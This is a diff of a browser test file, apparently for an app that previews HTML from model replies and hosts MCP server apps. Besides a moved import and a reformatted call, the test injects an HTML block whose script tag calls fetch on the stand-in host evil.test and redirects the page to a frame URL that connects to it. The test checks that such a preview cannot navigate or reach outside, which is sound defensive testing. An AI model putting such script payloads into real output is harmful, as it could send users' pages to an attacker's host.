@@ -1,5 +1,5 @@
 import { expect, test } from 'vitest';
-import { AppServer } from './testing/app-server.ts';
+import { AppServer } from './testing/apps/app-server.ts';
 import { useBrowserHarnessFor } from './testing/browser-harness.ts';
 import { describeInChromium } from './testing/needs-chromium.ts';
 import type { WatchedBrowser } from './testing/watched-browser.ts';
@@ -168,7 +168,9 @@ describeInChromium()('a hostile app of an MCP server', () => {
     // A document of the model gets no content there either.
     const script = "location.href = '/frames/app.html?connect=https://evil.test';";
     const fetches = "fetch('https://evil.test/').catch(() => {});";
-    await tab.send(`say \n\`\`\`html\n<p>${fetches}</p><script>${fetches} ${script}</script>\n\`\`\``);
+    await tab.send(
+      `say \n\`\`\`html\n<p>${fetches}</p><script>${fetches} ${script}</script>\n\`\`\``,
+    );
     const moved = tab.page.waitForEvent('framenavigated', (one) => one.url().includes('evil'));
     await tab.answer.getByRole('button', { name: 'Preview', exact: true }).click();
     const frame = await moved;
